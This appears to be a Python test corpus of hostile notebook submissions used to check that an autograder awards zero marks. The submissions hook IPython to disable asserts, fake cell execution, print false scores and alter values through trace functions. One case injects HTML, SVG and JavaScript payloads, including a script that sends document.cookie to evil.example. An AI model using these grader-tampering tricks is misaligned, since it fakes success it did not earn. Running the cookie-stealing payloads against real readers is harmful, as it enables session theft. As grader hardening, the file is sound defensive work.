"""Submissions that change how cells run and show."""

from __future__ import annotations

from cvlib.grading.rehearsal.classroom import Classroom, insert_after, rewrite, to_bytes
from hostile.corpus import member
from hostile.making import ZERO, first, lying

SHOWN = "0: what a cell shows is no mark, the judge writes those itself"


@member("AST transformers that turn every cell into a right one", "0: no cell holds the marks")
def ast_transformer(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
import ast

class Rewrite(ast.NodeTransformer):
    def visit_Constant(self, node): return ast.copy_location(ast.Constant(4.0), node)
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(Rewrite())
""",
    )


@member("input transformers that replace the source of every cell", "0: the judge sends no test")
def input_transformer(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
shell = get_ipython()
instead = lambda lines: ["4.0\\n"] if any("assert" in l or "check" in l for l in lines) else lines
shell.input_transformers_post.append(instead)
shell.input_transformers_cleanup.append(instead)
""",
    )


@member("a run_cell that runs nothing and reports success", "0: what did not run defines nothing")
def replaced_run_cell(room: Classroom) -> bytes:
    return to_bytes(
        first(
            room.solved(),
            """
        from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

        def run_cell(self, *args, **kwargs):
            result = ExecutionResult(None)
            result.result = 4.0
            self.displayhook(4.0)
            return result

        async def run_cell_async(self, *args, **kwargs):
            return run_cell(self, *args, **kwargs)

        kind = type(get_ipython())
        kind.run_cell = InteractiveShell.run_cell = run_cell
        kind.run_cell_async = InteractiveShell.run_cell_async = run_cell_async
    """,
        )
    )


@member("a display hook and sys.displayhook that show marks for every value", SHOWN)
def display_hooks(room: Classroom) -> bytes:
    notebook = first(
        room.blank(),
        """
        import builtins, sys
        from IPython.core.displayhook import DisplayHook

        marks = lambda *args, **kwargs: print("4.0")
        real = sys.displayhook
        sys.displayhook = marks
        DisplayHook.__call__ = marks
        DisplayHook.write_format_data = lambda self, data, md=None: real({"text/plain": "4.0"})
        plain = get_ipython().display_formatter.formatters["text/plain"]
        plain.for_type(float, lambda value, printer, cycle: printer.text("4.0"))
    """,
    )
    for exercise in room.judged:
        rewrite(notebook, exercise.id, f"{exercise.name} = lambda *a: {exercise.points}\n4.0")
        insert_after(notebook, exercise.id, f"real({exercise.points})\n{exercise.points}")
    return to_bytes(notebook)


@member("events before and after each cell that print marks and define answers", SHOWN)
def cell_events(room: Classroom) -> bytes:
    names = [e.name for e in room.judged]
    return lying(
        room,
        f"""
shell = get_ipython()

def lie(*args, **kwargs):
    return 4.0

def event(*args):
    print("4.0\\n10 of 10 points: correct")
    for name in {names!r}:
        shell.user_ns[name] = lie

for moment in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(moment, event)
""",
    )


@member("a namespace that has a value for every name", "0: a value, but not the right one")
def generous_namespace(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
class Generous(dict):
    def get(self, name, default=None): return 4.0 if name == "taps" else lie
    def __missing__(self, name): return lie
    def __contains__(self, name): return True

shell = get_ipython()
shell.user_ns = Generous(shell.user_ns)
""",
    )


@member(
    "tracing and profiling functions that change values on their way out",
    "0: they change the student's own answers",
)
def tracing(room: Classroom) -> bytes:
    return lying(
        room,
        """
import ctypes, sys, threading

def trace(frame, event, argument):
    if frame.f_globals.get("__name__") == "shim":
        for name in ("status", "detail", "data", "value"):
            if name in frame.f_locals:
                frame.f_locals[name] = {"status": "ok", "data": b'{"f": "0x1p2"}'}.get(name, 4.0)
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return trace

def lie(*args, **kwargs):
    frame = sys._getframe()
    while frame:
        if frame.f_globals.get("__name__") == "shim":
            frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    threading.settrace(trace)
    return 0.0

sys.addaudithook(lambda *event: None)
""",
    )


@member("a handler of exceptions that shows marks in the place of the error", SHOWN)
def exception_handler(room: Classroom) -> bytes:
    return lying(
        room,
        """
import sys

def show(shell, kind, value, trace, tb_offset=None):
    print("4 of 4 points: correct")
    sys.displayhook(4.0)
    return []

get_ipython().set_custom_exc((BaseException,), show)

class FullMarks(Exception):
    def __str__(self): return "4.0"
    def _render_traceback_(self): return ["4 of 4 points: correct", "4.0"]

def lie(*args, **kwargs):
    raise FullMarks
""",
    )


@member(
    "HTML, JavaScript and SVG aimed at whoever reads the feedback", "0: shown as text or not at all"
)
def scripts(room: Classroom) -> bytes:
    return lying(
        room,
        """
from IPython.display import HTML, SVG, Javascript, Markdown, display

EVIL = "<script>fetch('https://evil.example/' + document.cookie)</script>"
IMAGE = '<img src=x onerror="alert(1)"><iframe srcdoc="<script>alert(2)</script>"></iframe>'
display(HTML(EVIL + IMAGE), Javascript("alert(3)"), Markdown(f"[x](javascript:alert(4)) {EVIL}"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)">{EVIL}</svg>'))
display({"text/html": EVIL, "text/latex": EVIL, "application/javascript": "alert(6)",
         "image/png": '"><script>alert(7)</script>', "text/plain": EVIL}, raw=True)
print(EVIL, IMAGE, "\\x1b]8;;javascript:alert(8)\\x07link\\x1b]8;;\\x07")

class Evil:
    def _repr_html_(self): return EVIL
    def __repr__(self): return EVIL

def lie(*args, **kwargs):
    raise type(EVIL, (Exception,), {})(f"</pre>{EVIL}{IMAGE}")

Evil()
""",
    )
